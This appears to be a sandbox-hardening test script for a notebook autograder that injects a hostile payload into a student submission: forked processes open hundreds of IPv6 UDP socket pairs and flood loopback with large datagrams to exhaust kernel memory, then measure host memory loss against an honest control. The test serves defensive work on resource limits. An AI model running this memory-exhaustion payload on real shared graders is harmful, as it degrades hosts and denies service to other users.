"""a08: socket memory of IPv6 UDP (a01: an AF_INET6 UDP socket opens in the sandbox). Round 15 found IPv4 UDP
receive queues past the memory cap (fixed); is IPv6 charged the same? The hostile kernel (ps1's first answer cell)
forks NPROC processes; each opens 600 pairs of UDP sockets on ::1 and sends 60 KiB datagrams from one to the other
8 at a time per pair (the receiver's default queue holds about 3; the rest are dropped; never read), so the kernel queues about 600 x SO_RCVBUF (default) per process.
It stops at 2.5 GiB queued in all (the shared host's budget). From outside: the sandbox cgroup's memory and
kmem.tcp peaks and the host's MemAvailable drop. Mallory + honest control."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common25 import *  # noqa
from common25 import ROOT  # noqa

A = "ps1_memory"
NPROC = int(os.environ.get("NPROC", "12"))
PAYLOAD = r'''
import socket as _s8, os as _o8, time as _t8
def _avail8():
    for l in open("/proc/meminfo"):
        if l.startswith("MemAvailable"):
            return int(l.split()[1]) * 1024
_a08 = _avail8()
_r8, _w8 = _o8.pipe()
_kids8 = []
for _k in range(NPROC8):
    pid = _o8.fork()
    if pid == 0:
        tot, why = 0, "done"
        socks = []
        try:
            for i in range(600):
                a = _s8.socket(_s8.AF_INET6, _s8.SOCK_DGRAM); a.bind(("::1", 0))
                b = _s8.socket(_s8.AF_INET6, _s8.SOCK_DGRAM); b.setblocking(False)
                socks += [a, b]
                dst = a.getsockname()
                for _j in range(8):
                    try:
                        tot += b.sendto(b"x" * 61440, dst)
                    except OSError as ex:
                        why = f"{type(ex).__name__} {ex}"; break
                if tot > (2560 << 20) // NPROC8:
                    why = "budget"; break
        except OSError as ex:
            why = f"{type(ex).__name__} {ex}"
        _o8.write(_w8, (f"{tot} {len(socks)} {why}\n").encode())
        _t8.sleep(10)
        _o8._exit(0)
    _kids8.append(pid)
_t8.sleep(8)
print("UDP6 host MemAvailable drop MiB", (_a08 - _avail8()) >> 20, flush=True)
_buf = b""
_o8.close(_w8)
import select as _sel8
while True:
    if not _sel8.select([_r8], [], [], 5)[0]: break
    d = _o8.read(_r8, 65536)
    if not d: break
    _buf += d
for line in _buf.decode().splitlines():
    print("UDP6 child sent", line, flush=True)
for p in _kids8:
    _o8.waitpid(p, 0)
'''.replace("NPROC8", str(NPROC))


def hostile():
    from tools.submissions import source_and_release
    import copy
    s, r = source_and_release(A)
    nb = copy.deepcopy(r)
    for c in nb.cells:
        if c.cell_type == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution"):
            c.source = PAYLOAD + "\n" + c.source
            break
    return nb


def main():
    dest = "/tmp/attack25-a08"
    course(dest, {"mallory": hostile(), "zz_honest": honest(A)}, A)
    s = Sampler(0.5); s.start()
    rc = grade(dest)
    s.stop = True; s.join()
    print("SAMPLER", s.summary())
    sc = scores(dest)
    import glob, nbformat
    for pth in glob.glob(f"{dest}/autograded/mallory/{A}/*.ipynb"):
        nb = nbformat.read(pth, as_version=4)
        for c in nb.cells:
            for o in c.get("outputs", []):
                for line in (o.get("text", "") or "").splitlines():
                    if line.startswith("UDP6"):
                        print(line[:400])
                if o.get("output_type") == "error" and "UDP6" in c.source[:3000]:
                    print("ERROR", o.get("ename"), o.get("evalue", "")[:200])
    print(f"RESULT: rc={rc} scores {[(s, v['score'], v['max']) for s, v in sorted(sc.items())]}")
    cleanup(dest)


if __name__ == "__main__":
    main()
